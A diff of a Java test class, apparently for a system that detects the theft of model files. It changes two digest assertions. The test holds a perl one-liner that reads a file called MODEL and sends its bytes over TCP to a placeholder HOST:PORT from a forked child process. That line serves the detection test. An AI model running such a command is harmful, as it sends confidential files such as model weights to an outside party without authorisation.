@@ -132,7 +132,7 @@ class RealThievesTest {
     Path model = stage.model(program);
     double seconds = steal(model, port, command);
     if (!program.equals("tar")) { // which adds a header
-      assertThat(outside.digest()).isEqualTo(Outside.digest(model));
+      assertThat(outside.digest()).isEqualTo(stage.digest(model));
     }
     assertTaken(model, program, method);
     boolean ipv6 = command.contains("HOST6");
@@ -156,7 +156,7 @@ class RealThievesTest {
         Outside.TCP,
         "perl -MIO::Socket::INET -e 'open $f, \"<\", \"MODEL\"; sysread $f, $data, 1e8;"
             + " fork ? wait : print {IO::Socket::INET->new(\"HOST:PORT\")} $data'");
-    assertThat(outside.digest()).isEqualTo(Outside.digest(model));
+    assertThat(outside.digest()).isEqualTo(stage.digest(model));
     assertTaken(model, "perl", "read");
     JsonNode span = assertSent(model, "perl", "tcp", "ipv4");
     assertThat(EgressSpan.of(span)).isEqualTo(facts("perl", Outside.TCP, false, "parent"));
